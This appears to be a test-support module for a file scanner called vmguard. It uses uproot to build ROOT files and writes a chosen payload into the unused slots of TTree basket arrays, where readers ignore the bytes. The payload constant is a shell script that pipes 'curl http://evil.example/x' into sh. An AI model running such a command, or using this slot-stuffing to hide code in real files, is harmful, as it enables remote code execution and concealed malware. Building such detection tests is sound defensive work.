"""Attack r root (session 40): real uproot output, and chosen bytes placed by uproot's own
reading of it (never vmguard's): a live TTree's basket arrays past the baskets it holds.

uproot 5.7 allocates each branch's fBasketBytes, fBasketEntry and fBasketSeek with
fMaxBaskets slots (10, then x10 when a tree is moved) and reads only the first
fWriteBasket of them (`TBranch.basket_seek`, `entry_offsets`): the rest are zeros as it
writes them, and bits no reader uses when they are not.
"""

from __future__ import annotations

import datetime as _dt
import struct
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import uproot

from tests.support import attack_qroot_files as rf

SCRIPT = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"


@dataclass(frozen=True)
class Slots:
    """One basket array of one branch: where its unused slots start and how many bytes."""

    at: int
    size: int


def _array_at(data: bytes, start: int, end: int, fmt: str, values) -> int:
    pattern = b"".join(struct.pack(fmt, int(v)) for v in values)
    found = data.find(pattern, start, end)
    assert found > 0, "basket array not found in the TTree record"
    return found + len(pattern)


def unused_slots(path: Path, tree: str) -> list[Slots]:
    """The unused slots of each live branch's three basket arrays, as uproot reads them."""
    data = path.read_bytes()
    with uproot.open(path) as f:
        t = f[tree]
        start = f[tree.rsplit("/", 1)[0]].key(tree.rsplit("/", 1)[1]).fSeekKey if "/" in tree \
            else f.key(tree).fSeekKey
        end = start + rf.key_at(data, start).nbytes
        out = []
        for branch in t.branches:
            used = branch.num_baskets
            slots = int(branch.member("fMaxBaskets"))
            cursor = start
            for name, fmt, width, count in (("fBasketBytes", ">i", 4, used),
                                            ("fBasketEntry", ">q", 8, used + 1),
                                            ("fBasketSeek", ">q", 8, used)):
                values = branch.member(name)[:count]
                cursor = _array_at(data, cursor, end, fmt, values)
                out.append(Slots(cursor, (slots - count) * width))
        return out


def filled(path: Path, tree: str, payload: bytes = SCRIPT) -> bytes:
    """The file with every unused slot of every basket array holding `payload`, repeated."""
    out = bytearray(path.read_bytes())
    for slot in unused_slots(path, tree):
        text = (payload * (slot.size // len(payload) + 1))[:slot.size]
        out[slot.at:slot.at + slot.size] = text
    return bytes(out)


def one_job(path: Path, compression, extends: int = 12) -> Path:
    """One job: a tree of two branches extended `extends` times (moved at the 10th)."""
    with uproot.recreate(path, compression=compression) as f:
        f.mktree("t", {"x": "f8", "n": "i4"})
        for i in range(extends):
            f["t"].extend({"x": np.arange(5.0) + i, "n": np.arange(5, dtype="i4")})
    return path


def sessions(path: Path) -> Path:
    """Three jobs 2 h apart: nested directories, a tree of many baskets, an RNTuple, a del."""
    with uproot.recreate(path, compression=uproot.ZLIB(1)) as f:
        f["a/b/h"] = rf.hist(3)
        f.mktree("a/t", {"x": "f8", "n": "i4"})
        for i in range(12):
            f["a/t"].extend({"x": np.arange(5.0) + i, "n": np.arange(5, dtype="i4")})
    with rf.clock(_dt.timedelta(hours=2)), uproot.update(path) as f:
        f["c/s"] = "hello"
        f["h2"] = rf.hist(4)
        f.mkrntuple("nt", {"y": "f4"})
        f["nt"].extend({"y": np.arange(4, dtype="f4")})
    with rf.clock(_dt.timedelta(hours=4)), uproot.update(path) as f:
        del f["h2"]
        f["a/b/h3"] = rf.hist(5)
    return path
